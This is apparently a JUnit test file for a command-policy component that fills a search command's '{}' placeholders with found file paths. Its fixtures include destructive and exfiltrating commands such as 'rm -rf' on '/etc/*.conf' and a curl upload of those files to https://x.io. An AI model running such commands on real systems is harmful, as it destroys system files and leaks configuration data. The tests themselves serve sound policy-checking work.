package dev.lighthouse.policy.facts;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The found files stand in for a search command's placeholders, and for nothing else. */
class FoundFilesTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        .        | *.tmp        | ./*.tmp
        ./       | *.tmp        | ./*.tmp
        /        | *.conf       | /*.conf
        /home/u  | src/*.pem    | /home/u/*.pem
        /etc     | ''           | /etc
        """)
    void below_narrowsTheStartByTheLastPartOfTheName(String start, String name, String found) {
        assertThat(FoundFiles.below(start, name.isEmpty() ? Optional.empty() : Optional.of(name)))
                .isEqualTo(found);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        rm -rf '{}'                  | false | rm -rf '/etc/*.conf' '/usr/*.conf'
        curl -F 'f=@{}' https://x.io | false | curl -F 'f=@/etc/*.conf' https://x.io
        cp '{}' '{}.bak'             | false | cp '/etc/*.conf' '/usr/*.conf' '/etc/*.conf.bak'
        mv '{.}' '{//}'              | false | mv '/etc/*.conf' '/usr/*.conf' '/etc'
        rm -f                        | true  | rm -f '/etc/*.conf' '/usr/*.conf'
        rm -f                        | false | rm -f
        """)
    void into_replacesPlaceholdersOrAppendsWhenTheSearchSaysSo(String command, boolean implicit, String line) {
        assertThat(new FoundFiles(List.of("/etc/*.conf", "/usr/*.conf"), implicit).into(command))
                .isEqualTo(line);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
        rm -rf '{}'
        rm -f
        """)
    void into_leavesTheCommandAsItIs_whenNothingWasFoundOrAFileCannotBeQuoted(String command) {
        assertThat(new FoundFiles(List.of(), true).into(command)).isEqualTo(command);
        assertThat(new FoundFiles(List.of("/tmp/it's"), true).into(command)).isEqualTo(command);
    }
}
